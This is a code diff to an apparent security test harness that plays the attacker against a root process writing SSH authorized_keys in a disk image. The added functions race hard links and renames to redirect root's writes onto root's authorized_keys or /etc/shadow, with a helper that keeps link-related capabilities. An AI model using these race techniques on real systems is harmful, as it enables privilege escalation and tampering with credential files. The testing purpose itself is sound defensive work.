@@ -21,11 +21,12 @@ KEYS = "authorized_keys"
 # What a link leads to, where root follows it: files of root.
 IMAGE = os.path.dirname(os.path.dirname(sys.argv[1]))
 VICTIM = f"{IMAGE}/root/.ssh"
+SHADOW = f"{IMAGE}/etc/shadow"
 LINKS = {
     KEYS: f"{VICTIM}/{KEYS}",
     f".{KEYS}.azready": f"{VICTIM}/{KEYS}",
     ".new": f"{VICTIM}/{KEYS}",
-    "x": f"{IMAGE}/etc/shadow",
+    "x": SHADOW,
 }
 
 
@@ -135,17 +136,60 @@ def new_folder() -> None:
     time.sleep(0.4)
 
 
+def file_for_hard_link() -> None:
+    """The file and another name of one of root's change places all the time."""
+    real_folder()
+    hard_link(random.choice((f"{VICTIM}/{KEYS}", SHADOW)), ".ssh/other")
+    for _ in range(random.randint(1, 3000)):
+        exchange(f".ssh/{KEYS}", ".ssh/other")
+    forget(".ssh/other")
+
+
+def name_for_hard_link() -> None:
+    """Whatever appears in ~/.ssh is exchanged for another name of root's file at once, and so is the file itself."""
+    clean()
+    real_folder()
+    hard_link(SHADOW, ".ssh/link")
+    until = time.monotonic() + 1
+    while time.monotonic() < until:
+        with contextlib.suppress(OSError):
+            for name in os.listdir(".ssh"):
+                if name not in (KEYS, "link"):
+                    exchange(f".ssh/{name}", ".ssh/link")
+                    time.sleep(0.2)
+                    exchange(f".ssh/{KEYS}", ".ssh/link")
+                    time.sleep(0.2)
+                    return
+
+
+def hard_link(file: str, name: str) -> None:
+    """Kernels let users do it where fs.protected_hardlinks is 0; here the attacker has the right to (`main`)."""
+    with contextlib.suppress(FileExistsError, FileNotFoundError):
+        os.link(file, name)
+
+
 def clean() -> None:
     """Begin with an empty home."""
     for name in os.listdir("."):
         forget(name)
 
 
+def become(user: int, keep: int) -> None:
+    """That user, with these capabilities (a bit for each), none of which passes a start of another program."""
+    os.setgroups([])
+    os.setgid(user)
+    _libc.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
+    os.setuid(user)
+    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
+    data = (ctypes.c_uint32 * 6)(keep, keep)
+    if _libc.capset(header, data):
+        raise OSError(ctypes.get_errno(), "capset")
+
+
 if __name__ == "__main__":
     os.chdir(sys.argv[1])
-    os.setgroups([])
-    os.setgid(int(sys.argv[2]))
-    os.setuid(int(sys.argv[2]))
+    # CAP_DAC_READ_SEARCH and CAP_FOWNER: to link files of others is all that they are used for.
+    become(int(sys.argv[2]), 1 << 2 | 1 << 3 if "hard_link" in sys.argv[3] else 0)
     way = globals()[sys.argv[3]]
     print("ready", flush=True)
     while True:
